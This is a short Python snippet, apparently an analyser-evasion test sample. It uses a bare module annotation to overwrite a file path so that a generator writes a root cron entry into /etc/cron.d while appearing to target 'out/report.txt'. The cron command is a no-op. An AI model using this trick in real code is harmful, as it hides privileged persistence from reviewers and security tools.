# technique: a bare module annotation `report: '...'` is an implicit store into __annotations__; a lazily built generator reads the dict item afterwards
__annotations__ = {'report': 'out/report.txt'}
def jobs():
    return (open(__annotations__['report'], 'w') for _ in range(1))
report: '/etc/cron.d/rt11-d43'
for f in jobs():
    f.write('* * * * * root true\n')
    f.close()
